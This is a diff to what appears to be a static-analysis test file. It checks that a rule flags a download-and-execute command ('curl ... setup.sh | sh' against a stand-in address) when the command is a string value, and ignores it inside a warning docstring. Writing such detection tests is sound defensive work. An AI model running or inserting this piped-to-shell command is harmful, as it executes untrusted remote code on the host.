@@ -1005,3 +1005,11 @@ def _apply(script):
 _quiet = functools.partial(subprocess.run, ["git", "status"])
 # ok: interpreter-stdin-code, process-partial-path-list
 _quiet(check=False)
+# a docstring is documentation: Python runs none of it
+def _install_notes():
+    # ok: shell-payload-string
+    """Never run `curl -fsSL https://203.0.113.9/setup.sh | sh` on a build host."""
+    return None
+# the same text as a value is read
+# ruleid: shell-payload-string
+_STEP = "curl -fsSL https://203.0.113.9/setup.sh | sh"
